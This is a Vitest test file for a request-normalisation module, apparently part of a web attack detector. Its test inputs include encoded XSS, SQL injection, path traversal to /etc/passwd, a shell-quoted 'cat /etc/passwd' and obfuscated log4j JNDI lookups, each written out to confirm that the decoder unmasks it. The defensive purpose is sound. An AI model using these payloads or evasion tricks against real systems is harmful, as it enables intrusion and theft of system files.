import { describe, expect, it } from 'vitest';
import { decodeEntities, decodeIdentifierEscapes, foldFullwidth, normalise, resolveLookups, unescapeLog, urlDecode } from './normalise.js';

describe('urlDecode', () => {
  it('undoes double and triple encoding within the rounds it is given', () => {
    expect(urlDecode('%2527', 1)).toBe('%27');
    expect(urlDecode('%2527', 2)).toBe("'");
    expect(urlDecode('%25252e%25252e%25252f', 3)).toBe('../');
  });
  it('decodes as one global replace of %uXXXX and %XX per round would, broken and overlapping escapes included', () => {
    const PERCENT = /%(?:u([0-9a-fA-F]{4})|([0-9a-fA-F]{2}))/g;
    const byReplace = (value: string, rounds: number): string => {
      let out = value.replaceAll('+', ' ');
      for (let i = 0; i < rounds; i++) out = out.replace(PERCENT, (_, u: string | undefined, hex: string | undefined) => String.fromCharCode(parseInt(u ?? (hex as string), 16)));
      return out;
    };
    const values = ['%', '%%', '%%41', '%4', '%4g%41', '%u', '%u12', '%u12345', '%U0041', '%uD83D%uDE00', '%u00zz%41', 'a%2541b', '%252541', '%c0%af%E9', 'plain', '%%u0041', '%41%', 'x%u004', '%ü1%41'];
    for (const value of values) for (const rounds of [1, 2, 3]) expect(urlDecode(value, rounds), `${value} ×${rounds}`).toBe(byReplace(value, rounds));
  });
  it('decodes %u escapes, keeps broken escapes and reads + as a space', () => {
    expect(urlDecode('%u003cscript%zz+x', 3)).toBe('<script%zz x');
  });
  it('returns plain text unchanged', () => {
    expect(urlDecode('/products/1234?ref=newsletter', 3)).toBe('/products/1234?ref=newsletter');
  });
});

describe('decodeIdentifierEscapes', () => {
  it("decodes JavaScript's escapes of letters, digits, _ and $, in both forms", () => {
    expect(decodeIdentifierEscapes('\\u0070rocess.env')).toBe('process.env');
    expect(decodeIdentifierEscapes('pro\\u{63}ess \\u0024_GET \\u005f')).toBe('process $_GET _');
    expect(decodeIdentifierEscapes("global['\\160rocess']")).toBe("global['process']");
  });
  it('keeps escapes of punctuation, of non-ASCII characters and of code points past Unicode', () => {
    expect(decodeIdentifierEscapes('\\u003cscript\\u003e caf\\u00e9 \\u{FFFFFF} \\u12 \\100 \\400')).toBe('\\u003cscript\\u003e caf\\u00e9 \\u{FFFFFF} \\u12 \\100 \\400');
  });
});

describe('unescapeLog', () => {
  it("undoes nginx's \\xHH and Apache's \\\" once, as the log wrote the request", () => {
    expect(unescapeLog('/s?q=a\\x22 or \\x22b\\x22=\\x22b')).toBe('/s?q=a" or "b"="b');
    expect(unescapeLog('/s?q=a\\" or \\"b')).toBe('/s?q=a" or "b');
    expect(unescapeLog('/caf\\xC3\\xA9/\\x5Cx3c')).toBe('/caf\u00c3\u00a9/\\x3c');
  });
  it('returns a value without a backslash as it is', () => {
    const value = '/products/1234?ref=newsletter';
    expect(unescapeLog(value)).toBe(value);
  });
});

describe('foldFullwidth', () => {
  it('folds fullwidth quotes and angle brackets, as characters or as UTF-8 bytes decoded one by one', () => {
    expect(foldFullwidth('\uff1cscript\uff1e \uff02a\uff02 \uff07b\uff07')).toBe(`<script> "a" 'b'`);
    expect(foldFullwidth(urlDecode('%EF%BC%9Cscript%EF%BC%9E', 1))).toBe('<script>');
    expect(normalise('%EF%BC%9Cimg+src%3Dx%EF%BC%9E', 3).text).toBe('<img src=x>');
  });
  it('folds the fullwidth full stop, slash and backslash that best-fit mapping makes a path of', () => {
    expect(foldFullwidth('\uff0e\uff0e\uff0fetc\uff0fpasswd \uff3cwin')).toBe('../etc/passwd \\win');
    expect(normalise('/index.php/%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd', 3).text).toBe('/index.php/../etc/passwd');
  });
  it('leaves other text as it is: other fullwidth forms, other bytes after EF BC', () => {
    const text = urlDecode('%EF%BC%88%E9%BB%92%EF%BC%89+%EF%BC%A1', 1); // （黒） Ａ
    expect(foldFullwidth(text)).toBe(text);
    expect(foldFullwidth('plain')).toBe('plain');
  });
});

describe('decodeEntities', () => {
  it('decodes named, decimal and hex references, numeric ones also without a semicolon', () => {
    expect(decodeEntities('&lt;img src=x onerror=&#97;lert&#x28;1&#41&gt;')).toBe('<img src=x onerror=alert(1)>');
  });
  it('leaves query separators that only look like entities', () => {
    expect(decodeEntities('a=1&ltd=2&quote=3')).toBe('a=1&ltd=2&quote=3');
  });
});

describe('normalise', () => {
  it('lower-cases, compresses whitespace and removes null bytes', () => {
    expect(normalise('SeLeCt%00%09  *', 3).text).toBe('select *');
  });
  it('keeps a line break as one, since commands start after it', () => {
    expect(normalise('SeLeCt%00%09%0a  *', 3).text).toBe('select\n*');
    expect(normalise('a%0d%0a%20b /*x*/ c', 3).spaced).toBe('a\nb c');
  });
  it('removes SQL comments in one view, keeps them as spaces in another and as written in a third', () => {
    const views = normalise('UN/**/ION SEL/*x*/ECT/**/1', 3);
    expect(views.text).toBe('union select1');
    expect(views.spaced).toBe('un ion sel ect 1');
    expect(views.commented).toBe('un/**/ion sel/*x*/ect/**/1');
    const plain = normalise('select 1', 3);
    expect(plain.commented).toBe(plain.text);
    expect(normalise('1/*!50000UnIoN*/ /*!50000SeLeCt*/ 1', 3).text).toBe('1union select 1');
  });
  it('drops shell quoting in the shell view', () => {
    expect(normalise("c'a't%20/e\\tc/pa^sswd", 3).shell).toBe('cat /etc/passwd');
  });
  it('resolves nested log4j lookups in the lookups view', () => {
    expect(normalise('${${lower:J}${::-n}${env:NOPE:-d}i:ldap://x}', 3).lookups).toBe('${jndi:ldap://x}');
    expect(resolveLookups('${${upper:j}ndi:rmi://h/a}')).toBe('${jndi:rmi://h/a}');
  });
  it('reads numeric character references with any number of leading zeros, as browsers do', () => {
    expect(normalise('&#0000000000000000000000106;avascript&#x00000003a;', 3).text).toBe('javascript:');
    expect(normalise('&#0;x', 3).text).toBe('x');
  });
  it('decodes an entity that was itself URL-encoded', () => {
    expect(normalise('%26lt%3Bscript%26gt%3B', 3).text).toBe('<script>');
  });
});
